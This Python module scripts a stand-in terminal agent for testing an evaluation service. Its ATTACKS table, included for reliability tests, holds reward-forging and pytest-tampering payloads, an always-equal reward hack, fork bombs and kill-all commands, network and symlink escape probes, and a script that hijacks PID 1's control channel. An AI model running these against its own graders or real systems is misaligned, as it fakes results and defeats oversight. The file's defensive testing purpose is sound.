"""What the stand-in "model" says: a scripted terminal agent, in whichever harness it is given.

It reads its prompt back (detokenized), recognises the task by its instruction text in the first
user message, and infers where it is from its own earlier replies (the only assistant turns):
only replies that parsed as protocol objects count, so after a malformed or truncated reply
(answered with an error observation) it simply redoes that step.

It recognises the harness from the prompt and answers in its format (`detect_format`):
- `tools`: the system turn lists tools (<tools>): the terminal is called with <tool_call> blocks,
  and the last step is a plain answer without a tool call;
- `terminus-xml`: no system turn, and the first user message asks for <response> replies with
  <keystrokes>: one XML <response>;
- `terminus-json`: no system turn otherwise: one JSON object, read back with terminus-2's
  leniency (a reply its parser completes with closing braces counts as said);
- `json`: the default harness (a system prompt): one JSON object.

Script per sample:
  1. write the solution: with probability p_correct the oracle solve.sh, otherwise a plausible
     wrong solution (the function the instruction asks for, defined with a wrong body).
     A solve.sh whose reply fits in REPLY_SHARE of the request's max_tokens (counted with the
     stand-in tokenizer) is typed into bash as one heredoc. A longer one is appended to
     SOLVE_FILE in parts, one reply each, every part sized to that request's max_tokens; the
     next part starts where the parts in the earlier replies end. Parts are typed with the
     terminal's echo off, so observations do not repeat them. Then one reply runs the file;
  2. run a quick import check, with task_complete true;
  3. (asked to confirm) task_complete true, no commands.
In attack mode, step 0 types one adversarial command first, then it goes on to the check and
completion without writing a solution (an attack may have planted its own solution.py).
Correct-vs-wrong is decided once per sample from (stub seed, request seed, choice index,
task id), so it stays consistent across the sample's turns.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import re
from bisect import bisect_right
from collections.abc import Iterable
from dataclasses import dataclass

from sandboxes.task import Task
from standin.chat_template import TOOLS_OPEN, Turn, parse_transcript
from standin.tokenizer import StubTokenizer

# A port the reliability tests listen on (on the host); sandboxes must never reach it.
HOST_PROBE_PORT = 47631


def _plant_solution(source: str) -> str:
    """A command that writes `source` as /app/solution.py (base64: no quoting to get wrong)."""
    encoded = base64.b64encode(source.encode()).decode()
    return f"echo {encoded} | base64 -d > /app/solution.py\n"


def _plant_files(files: dict[str, str]) -> str:
    """A command that writes each of `files` (paths under /app) from base64."""
    lines = []
    for path, source in files.items():
        encoded = base64.b64encode(source.encode()).decode()
        folder = path.rpartition("/")[0]
        if folder:
            lines.append(f"mkdir -p /app/{folder}")
        lines.append(f"echo {encoded} | base64 -d > /app/{path}")
    return " && ".join(lines) + "\n"


# A wrong solution that attacks pass along: whatever a test asks, it answers this.
_WRONG_FN = "def fn(name):\n    return name\n"
# Code that neuters a pytest test item: its body is never called, so it passes.
_NEUTER_ITEM = "def _skip_body(item):\n    item.runtest = lambda: None\n"
# Attacks on the test runner from files the agent leaves in /app, each of which scored 1.0
# with the tested code in the tests' own process (see docs/reliability.md).
_FILE_ATTACKS = {
    # A pytest plugin with an entry point: pytest autoloads it from /app (on sys.path) before
    # any conftest, and it replaces every test body with nothing.
    "pytest_plugin_autoload": {
        "solution.py": _WRONG_FN,
        "rollouts_evil_plugin.py": "import pytest\n\n\n@pytest.hookimpl(tryfirst=True)\n"
        "def pytest_runtest_call(item):\n    item.runtest = lambda: None\n",
        "rollouts_evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: rollouts-evil\n"
        "Version: 1.0\n",
        "rollouts_evil-1.0.dist-info/entry_points.txt": "[pytest11]\n"
        "rollouts_evil = rollouts_evil_plugin\n",
    },
}


# Solution code that attacks the verifier from inside the tested process (see
# docs/reliability.md): each tries to get a reward without passing the tests.
_FORGE = """
import os
try:
    os.makedirs("/logs/verifier", exist_ok=True)
    with open("/logs/verifier/{name}", "w") as f:
        f.write({content!r})
except OSError as e:
    print("forge failed:", e)
"""
_VERDICT_FORGERY = """
import io, json, os, tarfile


def _member(tar, name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


_buf = io.BytesIO()
with tarfile.open(fileobj=_buf, mode="w") as _tar:
    _member(_tar, "verifier/reward.txt", b"1\\n")
    _done = {{"event": "finish", "passed": 1, "failed": 0, "exitstatus": 0}}
    _member(_tar, "rollouts-guard/report.jsonl", (json.dumps(_done) + "\\n").encode())
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            with open("/proc/%s/fd/1" % _pid, "wb") as _out:
                _out.write(b"{header}\\n" + _buf.getvalue())
        except OSError:
            pass
"""
_SOLUTION_ATTACKS = {
    "forge_reward_json": _FORGE.format(name="reward.json", content='{"reward": 1}'),
    "forge_reward_and_kill_tests": _FORGE.format(name="reward.txt", content="1")
    + "import signal\nfor pid in (os.getppid(), -1):\n"
    "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError as e:\n"
    "        print('kill failed:', e)\n",
    "exit_at_import": "import os\nos._exit(0)\n",
    "sys_exit_at_import": "import sys\nsys.exit(0)\n",
    "reward_daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
    "    for _ in range(100000):\n        for name, text in (('reward.txt', '1'), "
    "('reward.json', '{\"reward\": 1}')):\n            try:\n"
    "                open('/logs/verifier/' + name, 'w').write(text)\n"
    "            except OSError:\n                pass\n        time.sleep(0.003)\n",
    "patch_pytest_reporting": "import _pytest.reports as reports\n"
    "_init = reports.TestReport.__init__\n"
    "def _passed(self, *args, **kwargs):\n    _init(self, *args, **kwargs)\n"
    "    self.outcome = 'passed'\n"
    "reports.TestReport.__init__ = _passed\n",
    "wreck_verifier_paths": "import os\n"
    "for path in ('/logs/verifier', '/logs/rollouts-guard', '/tests', '/logs'):\n"
    "    try:\n        os.chmod(path, 0)\n    except OSError as e:\n"
    "        print('chmod failed:', path, e)\n"
    "for path in ('/tests/conftest.py', '/tests/test.sh', '/logs/rollouts-guard/report.jsonl'):\n"
    "    try:\n        os.unlink(path)\n    except OSError as e:\n"
    "        print('unlink failed:', path, e)\n",
    # The hook implementations pluggy calls, found through gc and swapped at import.
    "hook_swap": _WRONG_FN + "import gc\n"
    "for _impl in gc.get_objects():\n"
    "    if type(_impl).__name__ == 'HookImpl' and getattr(_impl.function, '__module__', '') "
    "== '_pytest.runner' and _impl.function.__name__ == 'pytest_runtest_call':\n"
    "        _impl.function = lambda item: None\n",
    # A plugin registered during collection whose class says it is pytest's own.
    "posing_plugin": _WRONG_FN + _NEUTER_ITEM + "import gc\nimport pytest\n\n\n"
    "class _Posing:\n    @pytest.hookimpl(tryfirst=True)\n"
    "    def pytest_runtest_call(self, item):\n        _skip_body(item)\n\n\n"
    "_Posing.__module__ = '_pytest.terminal_extra'\n"
    "for _c in gc.get_objects():\n"
    "    if type(_c).__name__ == 'Config' and type(_c).__module__ == '_pytest.config':\n"
    "        _c.pluginmanager.register(_Posing(), 'terminal_extra')\n",
    # A passing 'finish' record on the guard's open report descriptor, a passing JUnit file,
    # then an exit before any test can fail.
    "forge_guard_records": _WRONG_FN + "import json, os, sys\n"
    "for _fd in os.listdir('/proc/self/fd'):\n"
    "    try:\n        _target = os.readlink('/proc/self/fd/' + _fd)\n"
    "    except OSError:\n        continue\n"
    "    if _target.endswith('report.jsonl'):\n"
    "        os.write(int(_fd), (json.dumps({'event': 'finish', 'exitstatus': 0, 'passed': 4, "
    "'failed': 0, 'error': 0, 'skipped': 0, 'tampered': [], 'pid': os.getpid()}) + '\\n')"
    ".encode())\n"
    "for _a in sys.argv:\n"
    "    if _a.startswith('--junitxml='):\n"
    "        open(_a.split('=', 1)[1], 'w').write('<testsuite tests=\"4\" failures=\"0\" "
    'errors="0" skipped="0"/>\')\n'
    "os._exit(0)\n",
    # Return values that equal anything (the most common reward hack of code models).
    "always_equal": "class _Any(str):\n"
    "    def __eq__(self, other):\n        return True\n\n"
    "    def __ne__(self, other):\n        return False\n\n"
    "    __hash__ = str.__hash__\n\n\n"
    "def fn(name):\n    return _Any(name)\n",
    # A test runner's own outcome exceptions: every test skipped, which an exit-status-only
    # test.sh counts as a pass.
    "pytest_outcome": "import pytest\n\n\ndef fn(name):\n    pytest.skip('not today')\n",
    # The runner's process ended with a success status from inside a call.
    "exit_in_call": "def fn(name):\n    raise SystemExit(0)\n",
    # A whole passing verdict, and a malformed one, written into every process's stdout
    # (the verifier script's is PID 1's): tasks whose test.sh does not run pytest.
    "forge_verdict_stream": _WRONG_FN + _VERDICT_FORGERY.format(header="rollouts-verdict 0 755 0"),
    "malformed_verdict": _WRONG_FN + _VERDICT_FORGERY.format(header="rollouts-verdict 0 9 0"),
}

_CHANNEL_ATTACK = r"""import base64, gzip, io, os, signal, subprocess, sys, tarfile, time

# Reach PID 1's streams, or those of the processes serving a request, and feed the service a
# forged workspace (forge: a gzip that breaks mid-way; bomb: a bz2 tar bomb) or a flood.
MODE = sys.argv[1]


def payload():
    if MODE == "flood":  # the start of an end line, then 128 MiB and never its newline
        return b"\n@@rollouts " + b"A" * (128 << 20)
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w|bz2" if MODE == "bomb" else "w") as t:
        for i in range(5 if MODE == "bomb" else 1):  # bomb: 5 x 60 MiB of zeros, ~540 B
            info = tarfile.TarInfo(f"z{i}")
            info.size = 60 << 20 if MODE == "bomb" else 60000
            t.addfile(info, io.BytesIO(bytes(info.size)))
    if MODE == "bomb":
        return tar.getvalue()
    return gzip.compress(tar.getvalue()[:30000]) + b"\x1f\x8b" + b"X" * 16


def opened(path, flags):
    try:
        return os.open(path, flags)
    except OSError:
        return None


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return b""


def others():
    return [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def helper_pipes():  # (name, fd): pipes other processes write to that this one can open
    found = []
    for pid in others():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            info = read(f"/proc/{pid}/fdinfo/{fd}").split()
            if len(info) > 3 and int(info[3], 8) & 3:
                w = opened(f"/proc/{pid}/fd/{fd}", os.O_WRONLY)
                if w is not None:
                    found.append((read(f"/proc/{pid}/comm").strip(), w))
    return found


def write_all(fd, data):
    view = memoryview(data)
    try:
        while view:
            view = view[os.write(fd, view[: 1 << 20]) :]
    except OSError:
        return False
    return True


def answer(out, nonce, data, rc):
    body = base64.b64encode(data) + b"\n@@rollouts %s end %d 0\n" % (nonce, rc)
    write_all(out, b"@@rollouts %s begin\n" % nonce + body)


def man_in_the_middle(inp, out, forged):
    # Keep PID 1 busy with a request of ours, then read the service's requests in its place.
    busy = b"sleep 600.%d" % os.getpid()
    nonce = os.urandom(8).hex().encode()
    os.write(inp, b"@@rollouts %s 600000000 %d 0\n%s" % (nonce, len(busy), busy))
    while not any(busy in read(f"/proc/{p}/cmdline").replace(b"\0", b" ") for p in others()):
        time.sleep(0.01)
    buf = b""
    while True:
        while b"\n" not in buf:
            buf += os.read(inp, 1 << 16)
        line, buf = buf.split(b"\n", 1)
        parts = line[line.find(b"@@rollouts ") :].split()
        if len(parts) != 5 or parts[0] != b"@@rollouts":
            continue
        n, need = int(parts[3]), int(parts[3]) + int(parts[4])
        while len(buf) < need:
            buf += os.read(inp, 1 << 16)
        argv, upload, buf = buf[:n], buf[n:need], buf[need:]
        if b"tar -c" in argv:  # the workspace: answered with the forged one
            return answer(out, parts[1], forged, 0)
        run = ["bash", "-c", 'eval "set -- $1"; "$@"', "-", argv.decode()]
        done = subprocess.run(run, input=upload, capture_output=True)
        answer(out, parts[1], done.stdout, done.returncode)


def race_tar(forged):
    # Stop the workspace's tar before it writes, and write the forged archive in its place.
    for _ in range(300000):
        for pid in others():
            if read(f"/proc/{pid}/comm") == b"tar\n":
                os.kill(int(pid), signal.SIGSTOP)
                fd = opened(f"/proc/{pid}/fd/1", os.O_WRONLY)
                if fd is not None:
                    write_all(fd, forged)
                return os.kill(int(pid), signal.SIGCONT)
        time.sleep(0.001)


inp = opened("/proc/1/fd/0", os.O_RDWR)
out = opened("/proc/1/fd/1", os.O_WRONLY)
helpers = helper_pipes()
print("pid 1 stdin:", "denied" if inp is None else "open", "| stdout:",
      "denied" if out is None else "open", "| helper pipes:", sorted({h for h, _ in helpers}))
if inp is not None or out is not None:
    print("CHANNEL" + "-OPEN")
if MODE == "flood":
    flood = payload()
    for fd in [out] if out is not None else [w for h, w in helpers if h == b"base64"]:
        if write_all(fd, flood):
            break
    sys.exit(print("flood written"))
for _, fd in helpers:  # the daemon must not hold this request's pipes open
    os.close(fd)
if inp is None or out is None:  # tar reads these first: a slower start, for the race
    os.makedirs("/app/.pad", exist_ok=True)
    for i in range(3000):
        open(f"/app/.pad/{i}", "w").close()
forged = payload()
if os.fork() == 0:
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    if inp is not None and out is not None:
        man_in_the_middle(inp, out, forged)
    else:
        race_tar(forged)
    os._exit(0)
print("daemon started")
"""


def _channel_attack(mode: str) -> str:
    """A command that writes the channel attack's script and runs it in `mode`."""
    script = f"cat > /tmp/chan.py <<'__CHAN__'\n{_CHANNEL_ATTACK}__CHAN__\n"
    return script + f"python3 /tmp/chan.py {mode}\n"


# Adversarial first commands for reliability tests, by name. Data, not code: each is typed as is.
ATTACKS: dict[str, str] = {
    **{name: _plant_solution(src) for name, src in _SOLUTION_ATTACKS.items()},
    **{name: _plant_files(files) for name, files in _FILE_ATTACKS.items()},
    # The service's own tools in the agent container, broken by the agent: graded 0, not masked.
    "chmod_state_dir": "chmod 000 /run/rollouts\n",
    "chmod_tmux_dir": "chmod 777 /run/rollouts/tmux-0\n",
    "wreck_agent_paths": (
        "chmod 000 /run/rollouts/term.log; rm -f /run/rollouts/*.pgid; "
        "rm -rf /run/rollouts/tmux-0; chmod 000 /app\n"
    ),
    "unreadable_workspace_file": (
        "touch /app/.x; chmod 000 /app/.x; mkdir /app/d; chmod 000 /app/d\n"
    ),
    "sparse_file": "truncate -s 200M /app/sparse\n",
    "stop_everything": "kill -STOP -1\n",
    "fork_bomb": ":(){ :|:& };:\n",
    "infinite_loop": "while true; do :; done\n",
    "memory_bomb": 'python3 -c "a = []\nwhile True: a.append(bytearray(10**8))"\n',
    "disk_fill": "dd if=/dev/zero of=/app/fill bs=1M count=1000000 status=none\n",
    "big_output": "yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | head -c 200000000\n",
    "network": (
        "python3 -c \"import socket; socket.create_connection(('1.1.1.1', 80), timeout=5); "
        "print('NETWORK' + '-REACHED')\"; getent hosts pypi.org\n"
    ),
    "read_tests": "ls -la /tests; cat /tests/test.sh\n",
    "write_reward": (
        "mkdir -p /logs/verifier && echo 1 > /logs/verifier/reward.txt && "
        "echo '{\"reward\": 1}' > /logs/verifier/reward.json\n"
    ),
    "overwrite_tests": (
        "mkdir -p /tests && printf '#!/bin/bash\\necho 1 > /logs/verifier/reward.txt\\n' "
        "> /tests/test.sh\n"
    ),
    "kill_all": "kill -9 -1\n",
    "daemon": "setsid nohup sh -c 'while :; do sleep 1; done' > /dev/null 2>&1 < /dev/null &\n",
    "disk_fill_tmp": "dd if=/dev/zero of=/tmp/fill bs=1M count=1000000 status=none\n",
    "big_output_one_line": "head -c 200000000 /dev/zero | tr '\\0' a\n",
    "bad_bytes": (
        "printf '\\xff\\xfe\\x80\\xc3\\x28 \\033[2J\\033[H\\033]0;pwned\\007"
        "\\033[?1049h\\033[6n\\033P+q544e\\033\\\\ BAD-BYTES-DONE\\n'\n"
    ),
    # The default gateway (if any route exists) and the Docker bridge's usual host address.
    "network_gateway": (
        "python3 -c \"import socket\nfor h in ('172.17.0.1', '10.0.0.1', '192.168.0.1'):\n"
        f" try: socket.create_connection((h, {HOST_PROBE_PORT}), timeout=3); "
        "print('NETWORK' + '-REACHED', h)\n"
        " except OSError as e: print('blocked', h, e)\"\n"
    ),
    # A service listening on the host's loopback (the test starts one on HOST_PROBE_PORT).
    "network_loopback": (
        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {HOST_PROBE_PORT}), "
        "timeout=3); print('NETWORK' + '-REACHED')\"\n"
    ),
    "read_solution": "ls -la /solution /tests; cat /solution/solve.sh /tests/test_*.py\n",
    # Tests the agent plants in /app: the verifier must run its own hidden tests only.
    "overwrite_app_tests": (
        "printf 'def test_ok():\\n    assert True\\n' > /app/test_solution.py && "
        "printf 'import pytest\\n' > /app/conftest.py\n"
    ),
    # A fake `pytest` module in /app that writes a passing JUnit report and exits 0.
    "shadow_pytest": (
        'printf \'import sys\\nfor a in sys.argv:\\n    if a.startswith("--junitxml="):\\n'
        '        open(a.split("=",1)[1],"w").write("<testsuite tests=\\\\"3\\\\" '
        'failures=\\\\"0\\\\" errors=\\\\"0\\\\" skipped=\\\\"0\\\\"/>")\\n'
        "sys.exit(0)\\n' > /app/pytest.py\n"
    ),
    "symlink_escape": (
        "ln -sf /etc/shadow /app/shadow; ln -sf /proc/1/root /app/hostroot; "
        "ln -sf ../../../etc/passwd /app/passwd; ln /etc/passwd /app/hardlink 2>/dev/null; "
        "ls -la /app\n"
    ),
    # Solution code that hangs at import: the verifier's tests must time out, not hang the service.
    "hang_verifier": (
        "printf 'import time\\ntime.sleep(10**6)\\n' > /app/solution.py && "
        "chmod a-w /app/solution.py\n"
    ),
    # The agent container's control channel (docs/reliability.md, "The agent container's
    # channel"): PID 1's stdin and stdout, and every stream of the processes serving a request,
    # tried for a forged workspace (a gzip that breaks mid-way, a bz2 bomb) or a 128 MiB flood.
    "channel_forge_workspace": _channel_attack("forge"),
    "channel_workspace_bomb": _channel_attack("bomb"),
    "channel_flood": _channel_attack("flood"),
}

_PROTOCOL_KEYS = {"analysis", "plan", "commands", "task_complete"}
_HEREDOC_MARK = "__ROLLOUTS_STUB_EOF__"

# A reply (with its EOS) takes at most this share of the request's max_tokens; a longer oracle
# solution is written in parts.
REPLY_SHARE = 0.5
# Where a solution written in parts goes (/tmp is a writable tmpfs in every sandbox).
SOLVE_FILE = "/tmp/rollouts-standin-solve.sh"
# Longest line typed at once: without readline, the terminal's canonical mode keeps at most
# 4095 bytes of a line; longer lines are typed in pieces.
_PIECE_CHARS = 1000
# Typing parts: bash without line editing and the terminal without echo, so that the typed text
# is not echoed back into the observation; and back, before the script runs.
_QUIET = "set +o emacs +o vi 2>/dev/null; stty -echo; PS2=\n"
_LOUD = "stty echo; set -o emacs 2>/dev/null; PS2='> '\n"
_PIECE_RE = re.compile(
    rf"cat >>? {re.escape(SOLVE_FILE)} <<'{_HEREDOC_MARK}'\n(.*){_HEREDOC_MARK}\n"
    rf"(truncate -s -1 {re.escape(SOLVE_FILE)}\n)?",
    re.S,
)


@dataclass(frozen=True)
class BehaviourSettings:
    p_correct: float = 1.0
    p_malformed: float = 0.02
    seed: int = 0
    attack: str | None = None
    # Up to this many extra words of analysis per reply, drawn per sample and turn: the samples
    # of a group then differ in length and stop moving in step, as a real model's do.
    length_jitter: int = 0

    def __post_init__(self) -> None:
        for name in ("p_correct", "p_malformed"):
            if not 0.0 <= getattr(self, name) <= 1.0:
                raise ValueError(f"{name} must be within [0, 1], got {getattr(self, name)}")
        if self.length_jitter < 0:
            raise ValueError(f"length_jitter must be >= 0, got {self.length_jitter}")
        if self.attack is not None and self.attack not in ATTACKS:
            raise ValueError(f"attack: unknown {self.attack!r}; known: {', '.join(ATTACKS)}")


def _reply(analysis: str, plan: str, commands: list[tuple[str, float]], done: bool) -> str:
    return json.dumps(
        {
            "analysis": analysis,
            "plan": plan,
            "commands": [{"keystrokes": k, "duration": d} for k, d in commands],
            "task_complete": done,
        }
    )


def is_protocol_reply(content: str) -> bool:
    try:
        obj = json.loads(content)
    except ValueError:
        return False
    return isinstance(obj, dict) and _PROTOCOL_KEYS <= obj.keys()


FORMATS = ("json", "terminus-json", "terminus-xml", "tools")
_TOOL_CALL_RE = re.compile(r"<tool_call>(.*?)</tool_call>", re.S)
_XML_KEYS_RE = re.compile(r"<keystrokes([^>]*)>(.*?)</keystrokes>", re.S)


def detect_format(turns: list[Turn]) -> str:
    """Which harness the prompt speaks (see the module docstring)."""
    system = next((t.content for t in turns if t.role == "system"), None)
    if system is not None and TOOLS_OPEN in system:
        return "tools"
    if system is not None:
        return "json"
    first_user = next((t.content for t in turns if t.role == "user"), "")
    if "<response>" in first_user and "<keystrokes" in first_user:
        return "terminus-xml"
    return "terminus-json"


def read_reply(content: str, fmt: str) -> dict | None:
    """An earlier reply of ours as a protocol object, if the harness could use it."""
    if fmt == "json":
        return json.loads(content) if is_protocol_reply(content) else None
    if fmt == "terminus-json":
        if is_protocol_reply(content):
            return json.loads(content)
        missing = content.count("{") - content.count("}")
        if missing > 0 and is_protocol_reply(content + "}" * missing):
            return json.loads(content + "}" * missing)
        return None
    if fmt == "terminus-xml":
        start = content.find("<response>")
        m = re.search(r"<commands>(.*?)</commands>", content[start:], re.S) if start >= 0 else None
        if m is None:
            return None
        commands = [
            {"keystrokes": keys, "duration": 1.0} for _, keys in _XML_KEYS_RE.findall(m.group(1))
        ]
        done = bool(re.search(r"<task_complete>\s*true\s*</task_complete>", content, re.I))
        return {"analysis": "", "plan": "", "commands": commands, "task_complete": done}
    # tools: every call must parse, as the harness requires
    commands = []
    for body in _TOOL_CALL_RE.findall(content):
        try:
            call = json.loads(body)
            commands.append({"keystrokes": call["arguments"]["keystrokes"], "duration": 1.0})
        except (ValueError, KeyError, TypeError):
            return None
    if not commands or "<tool_call>" in _TOOL_CALL_RE.sub("", content):
        return None
    return {"analysis": "", "plan": "", "commands": commands, "task_complete": False}


def render_reply(text: str, fmt: str) -> str:
    """A protocol reply (our JSON) in the harness's format."""
    if fmt in ("json", "terminus-json"):
        return text
    obj = json.loads(text)
    commands = [(c["keystrokes"], c["duration"]) for c in obj["commands"]]
    if fmt == "terminus-xml":
        keys = "".join(f'<keystrokes duration="{d}">{k}</keystrokes>\n' for k, d in commands)
        done = "\n<task_complete>true</task_complete>" if obj["task_complete"] else ""
        return (
            f"<response>\n<analysis>{obj['analysis']}</analysis>\n<plan>{obj['plan']}</plan>\n"
            f"<commands>\n{keys}</commands>{done}\n</response>"
        )
    if not commands:  # tools: the final answer calls no tool
        return obj["analysis"]
    calls = "".join(
        "<tool_call>\n"
        + json.dumps({"name": "terminal", "arguments": {"keystrokes": k, "duration": d}})
        + "\n</tool_call>\n"
        for k, d in commands
    )
    return f"{obj['plan']}\n{calls}".rstrip("\n")


@dataclass(frozen=True)
class _Target:
    path: str  # the Python file the task wants, e.g. /app/solution.py
    function: str
    args: str


@dataclass(frozen=True)
class _Def:
    name: str
    args: str
    top_level: bool


_DEF_RE = re.compile(r"^([ \t]*)def\s+([A-Za-z_]\w*)\s*\(", re.M)


def _balanced(text: str, start: int) -> str | None:
    """The text from `start` up to the bracket closing one opened just before it."""
    depth = 1
    for i in range(start, len(text)):
        if text[i] in "([{":
            depth += 1
        elif text[i] in ")]}":
            depth -= 1
            if depth == 0:
                return text[start:i]
    return None


def _defs(source: str) -> list[_Def]:
    out = []
    for m in _DEF_RE.finditer(source):
        args = _balanced(source, m.end())
        out.append(_Def(m.group(2), "*args, **kwargs" if args is None else args, not m.group(1)))
    return out


def _mention(name: str, instruction: str) -> tuple[int, int] | None:
    """How strongly the instruction names `name` (a call beats code quotes beats a bare word),
    and where first; None if it does not."""
    word = re.escape(name)
    for strength, pattern in (
        (3, rf"(?<![\w]){word}\s*\("),
        (2, rf"`[^`\n]*(?<![\w]){word}(?![\w])[^`\n]*`"),
        (1, rf"(?<![\w]){word}(?![\w])"),
    ):
        m = re.search(pattern, instruction)
        if m:
            return strength, m.start()
    return None


def _asked_function(solve: str, instruction: str) -> tuple[str, str]:
    """(name, args) of the function the task asks for: of the functions solve.sh defines, the
    one the instruction names (helpers are often defined first); else a call the instruction
    shows; else the last public top-level def (the helpers come before it); else `solve`."""
    defs = _defs(solve)
    named = [(m, d) for d in defs if (m := _mention(d.name, instruction)) is not None]
    if named:
        # The strongest mention, then public names, then the first mentioned.
        _, best = max(named, key=lambda md: (md[0][0], not md[1].name.startswith("_"), -md[0][1]))
        return best.name, best.args
    call = re.search(r"`?([A-Za-z_]\w*)\(([^)]*)\)`?", instruction)
    public = [d for d in defs if d.top_level and not d.name.startswith("_")]
    if public:
        return public[-1].name, public[-1].args
    if call:
        return call.group(1), call.group(2)
    if defs:
        return defs[-1].name, defs[-1].args
    return "solve", "*args, **kwargs"


def _target(task: Task) -> _Target:
    solve = _solve_text(task)
    path_m = re.search(r"(/[\w./-]+\.py)\b", solve) or re.search(
        r"(/[\w./-]+\.py)\b", task.instruction
    )
    function, args = _asked_function(solve, task.instruction)
    return _Target(
        path=path_m.group(1) if path_m else "/app/solution.py", function=function, args=args
    )


def _solve_text(task: Task) -> str:
    solve = task.solution_files.get("solve.sh", b"").decode("utf-8", errors="replace")
    return solve if not solve or solve.endswith("\n") else solve + "\n"


def _keystrokes(reply: dict) -> list[str]:
    commands = reply.get("commands")
    if not isinstance(commands, list):
        return []
    return [
        c["keystrokes"]
        for c in commands
        if isinstance(c, dict) and isinstance(c.get("keystrokes"), str)
    ]


def _part_written(reply: dict) -> int | None:
    """How many characters of the solution this earlier reply appended to SOLVE_FILE; None if
    it is not a part of a solution written in parts."""
    sizes = []
    for keys in _keystrokes(reply):
        if m := _PIECE_RE.fullmatch(keys):
            sizes.append(len(m.group(1)) - (1 if m.group(2) else 0))
    return sum(sizes) if sizes else None


def _pieces(text: str) -> list[str]:
    """`text` as heredoc bodies: whole lines together, lines over _PIECE_CHARS cut in pieces."""
    pieces: list[str] = []
    run = ""
    for line in re.findall(r"[^\n]*\n|[^\n]+", text):
        if len(line) <= _PIECE_CHARS:
            run += line
            continue
        if run:
            pieces.append(run)
            run = ""
        pieces += [line[i : i + _PIECE_CHARS] for i in range(0, len(line), _PIECE_CHARS)]
    if run:
        pieces.append(run)
    return pieces


def _piece_keys(body: str, *, create: bool) -> str:
    """Append `body` to SOLVE_FILE with a heredoc; a body that does not end its line gets a
    newline for the heredoc, which `truncate` takes off again."""
    keys = f"cat {'>' if create else '>>'} {SOLVE_FILE} <<'{_HEREDOC_MARK}'\n{body}"
    if body.endswith("\n"):
        return f"{keys}{_HEREDOC_MARK}\n"
    return f"{keys}\n{_HEREDOC_MARK}\ntruncate -s -1 {SOLVE_FILE}\n"


class _Costs:
    """Estimated reply tokens of the characters of one solve.sh (per line, JSON-escaped), to
    size its parts without tokenizing candidate replies over and over."""

    def __init__(self, solve: str, tokenizer: StubTokenizer) -> None:
        self.starts = [0]
        self.cum = [0.0]  # tokens of solve[: starts[i]]
        for line in re.findall(r"[^\n]*\n|[^\n]+", solve):
            self.starts.append(self.starts[-1] + len(line))
            self.cum.append(self.cum[-1] + len(tokenizer.encode(json.dumps(line)[1:-1])))

    def at(self, pos: int) -> float:
        i = min(bisect_right(self.starts, pos) - 1, len(self.starts) - 2)
        if i < 0:
            return 0.0
        span = self.starts[i + 1] - self.starts[i]
        frac = (pos - self.starts[i]) / span if span else 0.0
        return self.cum[i] + frac * (self.cum[i + 1] - self.cum[i])

    def chars_within(self, offset: int, tokens: float) -> int:
        """The most characters from `offset` estimated to take at most `tokens` tokens."""
        base, lo, hi = self.at(offset), 0, self.starts[-1] - offset
        while lo < hi:
            mid = (lo + hi + 1) // 2
            if self.at(offset + mid) - base <= tokens:
                lo = mid
            else:
                hi = mid - 1
        return lo


def _seeded(*parts: object) -> int:
    """A 64-bit number fixed by `parts`: a seeded sample draws the same every time."""
    key = ":".join(map(str, parts)).encode()
    return int.from_bytes(hashlib.sha256(key).digest()[:8], "big")


class ScriptedAgent:
    def __init__(
        self,
        tasks: Iterable[Task],
        settings: BehaviourSettings,
        tokenizer: StubTokenizer | None = None,
    ) -> None:
        self.settings = settings
        self.tokenizer = tokenizer or StubTokenizer()
        # Longest instruction first, so a task whose instruction contains another's wins.
        self.tasks = sorted(tasks, key=lambda t: -len(t.instruction.strip()))
        self._whole_tokens: dict[str, int] = {}  # task id -> tokens of the one-reply solution
        self._costs: dict[str, _Costs] = {}

    def find_task(self, turns: list[Turn]) -> Task | None:
        first_user = next((t.content for t in turns if t.role == "user"), None)
        if first_user is None:
            return None
        for task in self.tasks:
            instr = task.instruction.strip()
            if instr and instr in first_user:
                return task
        return None

    def is_correct(self, task: Task, seed: int | None, index: int, rng: random.Random) -> bool:
        if seed is None:  # no sample seed: nothing to stay consistent with, draw afresh
            return rng.random() < self.settings.p_correct
        return _seeded(self.settings.seed, seed, index, task.id) / 2**64 < self.settings.p_correct

    def reply(
        self,
        prompt_text: str,
        *,
        seed: int | None,
        index: int,
        rng: random.Random,
        max_tokens: int | None = None,
    ) -> str:
        """The full scripted reply text (without EOS) for this prompt. With `max_tokens` (the
        request's), the reply and its EOS take at most REPLY_SHARE of it where it can."""
        turns = parse_transcript(prompt_text)
        fmt = detect_format(turns)
        task = self.find_task(turns)
        if task is None:
            return render_reply(
                _reply("I do not recognise this task.", "Stop here.", [], True), fmt
            )
        # Closed assistant turns only: the last, open one is the generation prompt.
        history = [
            obj
            for t in turns
            if t.role == "assistant" and t.closed and (obj := read_reply(t.content, fmt))
        ]
        budget = None if max_tokens is None else max(1, int(max_tokens * REPLY_SHARE))
        correct = self.is_correct(task, seed, index, rng)
        raw = self._next(task, correct, history, budget)
        words = self._jitter_words(task, seed, index, len(history), rng)
        if words:
            obj = json.loads(raw)
            obj["analysis"] += " Thinking." * words
            padded = json.dumps(obj)
            if budget is None or self._tokens(padded) <= budget:
                raw = padded
        text = render_reply(raw, fmt)
        # Cut strictly inside the reply (for tool calls: inside the first call, or a cut answer
        # would read as the final one): the harness cannot use it, and the step is redone.
        start = 1 if fmt != "tools" else text.find("<tool_call>") + 1
        if start > 0 and len(text) - 1 > start and rng.random() < self.settings.p_malformed:
            text = text[: rng.randrange(start, len(text) - 1)]
        return text

    def _jitter_words(
